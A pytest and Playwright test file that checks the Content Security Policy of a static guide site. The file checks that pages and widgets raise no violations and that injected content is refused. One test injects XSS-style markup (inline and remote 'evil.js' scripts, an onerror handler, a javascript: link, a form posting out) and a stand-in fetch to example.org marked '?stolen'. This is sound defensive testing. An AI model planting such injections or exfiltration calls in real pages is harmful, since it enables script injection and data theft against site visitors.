"""The content security policy in the browser: nothing of the guide is refused, and what slips in is."""

from __future__ import annotations

import base64
import hashlib
import re
from typing import TYPE_CHECKING, Any

import pytest

from macros.content_policy import inline_scripts
from tests.site.conftest import published_headers

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

pytestmark = pytest.mark.browser

LISTEN = """
const told = [];
addEventListener("securitypolicyviolation", (event) =>
  told.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
window.refused = () => told;
"""


@pytest.fixture
def browse(chromium: Any) -> Iterator[Callable[..., Any]]:
    """Opens a page that hears what the policy refuses. (`wait_for_function` would be refused, too: it evaluates text.)"""
    contexts = []

    def make(**options: Any) -> Any:
        context = chromium.new_context(**options)
        context.add_init_script(LISTEN)
        contexts.append(context)
        return context.new_page()

    yield make
    for context in contexts:
        context.close()


def refused(page: Any) -> Any:
    return page.evaluate("refused()")


def test_every_page_has_the_policy_before_anything_that_it_governs(soups):
    for name, soup in soups.items():
        first = soup.head.find(["meta", "script", "link", "style"], attrs={"charset": False})
        assert first.get("http-equiv") == "Content-Security-Policy", name
        directives = dict(part.strip().split(" ", 1) for part in first["content"].split(";"))
        assert directives["default-src"] == "'none'", name
        assert "unsafe" not in first["content"], name
        assert "http" not in first["content"].replace("http-equiv", ""), name
        hashes = re.findall(r"'sha256-([^']+)'", directives["script-src"])
        assert hashes == [
            base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() for script in inline_scripts(str(soup))
        ], name


def test_no_page_is_refused_anything(site, address, browse):
    page = browse()
    told = {}
    for path in sorted(site.rglob("*.html")):
        name = path.relative_to(site).as_posix()
        page.goto(f"{address}/{name}", wait_until="load")
        told[name] = refused(page)
    assert len(told) > 60
    assert {name: found for name, found in told.items() if found} == {}


def search(page: Any, words: str) -> None:
    page.click(".md-search__input")
    page.locator(".md-search__input").press_sequentially(words)
    page.wait_for_selector(".md-search-result__item")


def walk_a_tree(page: Any) -> None:
    for number in range(20):
        if page.locator("decision-tree .tree-ending").is_visible():
            break
        page.locator("decision-tree .tree-step:visible [data-answer]").first.click()
        page.locator("decision-tree .tree-path li").nth(number).wait_for()
    page.click("text=Copy summary")
    page.wait_for_selector(".tree-copied:not(:empty)")


def filter_sources(page: Any) -> None:
    page.fill(".bibliography-tools input[type=search]", "ketamine")
    page.select_option(".bibliography-tools select >> nth=0", index=1)
    page.select_option(".bibliography-tools select >> nth=-1", index=1)


def switch_the_palette(page: Any) -> None:
    page.click("form[data-md-component=palette] label:visible")
    page.wait_for_selector("body[data-md-color-scheme=slate]")
    page.reload()
    assert page.evaluate("document.body.dataset.mdColorScheme") == "slate", "remembered by the theme's inline script"


def open_cards(page: Any) -> None:
    for link in ("article a.cite", "article a.term"):
        page.locator(link).first.hover()
        page.wait_for_selector(".source-card")
    page.locator("summary:visible").first.click()


def tick_a_sheet(page: Any) -> None:
    page.locator(".session-sheets label:visible").last.click()
    page.locator(".session-sheets input[type=checkbox]:visible").first.check()


def open_the_menu(page: Any) -> None:
    page.set_viewport_size({"width": 360, "height": 740})
    page.click(".menu-button")
    page.wait_for_selector(".md-sidebar--primary a:visible")


WIDGETS: dict[str, tuple[str, Callable[[Any], object]]] = {
    "search": ("index.html", lambda page: search(page, "neuroplasticity")),
    "search from a link": ("index.html?q=esketamine", lambda page: page.wait_for_selector(".md-search-result__item")),
    "tree": ("decisions/on-the-day.html", walk_a_tree),
    "filter": ("references.html", filter_sources),
    "palette": ("framework/index.html", switch_the_palette),
    "cards": ("mechanisms/neuroplasticity.html", open_cards),
    "sheets": ("phases/sheets/dosing.html", tick_a_sheet),
    "menu": ("safety/index.html", open_the_menu),
    "back to top": ("safety/law.html", lambda page: (page.mouse.wheel(0, 3000), page.mouse.wheel(0, -300))),
}


@pytest.mark.parametrize("name", WIDGETS)
def test_no_widget_is_refused_anything(address, browse, name):
    path, use = WIDGETS[name]
    page = browse(color_scheme="light", permissions=["clipboard-write", "clipboard-read"])
    page.goto(f"{address}/{path}")
    use(page)
    page.wait_for_timeout(200)
    assert refused(page) == []


def test_from_a_folder_nothing_is_refused(site, browse):
    page = browse(color_scheme="light")
    for path, use in (WIDGETS["tree"], WIDGETS["palette"], WIDGETS["filter"], WIDGETS["search"]):
        page.goto((site / path).as_uri())
        use(page)
        frames = [frame.evaluate("window.refused ? refused() : []") for frame in page.frames]
        assert frames == [[]] * len(frames), path
        assert page.evaluate("document.fonts.size") > 0
    assert len(page.frames) == 2, "the search works in a frame"


SLIPPED_IN = """<script>document.title = "run"</script><script src="https://example.org/evil.js"></script>
<img src="missing.png" onerror="document.title = 'run'"><p style="color: red">x</p>
<iframe src="https://example.org"></iframe>
<a id="link" href="javascript:document.title='run'">x</a>
<form action="https://example.org"><button id="send">x</button></form>"""


def test_what_slips_into_a_page_is_refused(site: Path, address, browse):
    page = browse()
    text = (site / "framework/index.html").read_text("utf-8")
    page.route("**/framework/index.html", lambda route: route.fulfill(
        body=text.replace("</h1>", "</h1>" + SLIPPED_IN, 1), content_type="text/html"))  # fmt: skip
    page.goto(f"{address}/framework/index.html")
    page.evaluate("document.getElementById('link').click(); document.getElementById('send').click()")
    page.evaluate("fetch('https://example.org/?stolen').catch(() => 0)")
    page.wait_for_timeout(200)
    told = " ".join(refused(page))
    assert page.title() != "run"
    assert page.url == f"{address}/framework/index.html"
    for directive in ("script-src-elem inline", "script-src-elem https://example.org/evil.js", "script-src-attr inline",
                      "style-src-attr inline", "frame-src https://example.org", "form-action https://example.org",
                      "connect-src https://example.org"):  # fmt: skip
        assert directive in told


def test_the_headers_that_hosts_send(site, address, browse):
    sent = browse().goto(f"{address}/index.html").headers
    for name, value in published_headers(site, "/index.html"):
        assert sent[name.lower()] == value
    assert "frame-ancestors 'none'" in sent["content-security-policy"]
    assert "cache-control" not in sent, "pages change"
    (stylesheet,) = (site / "assets/stylesheets").glob("guide.*.css")
    sent = browse().goto(f"{address}/assets/stylesheets/{stylesheet.name}").headers
    assert "immutable" in sent["cache-control"]


def test_without_its_fonts_a_page_can_be_read(address, browse):
    page = browse()
    page.route("**/*.woff2", lambda route: route.abort())
    page.goto(f"{address}/framework/index.html")
    page.evaluate("document.fonts.ready.then(() => 0)")
    assert page.locator("h1").evaluate(
        "one => one.checkVisibility({ visibilityProperty: true }) && one.offsetWidth > 100"
    )
    assert page.evaluate("[...document.fonts].some((font) => font.status === 'error')"), (
        "they were asked for, and missing"
    )
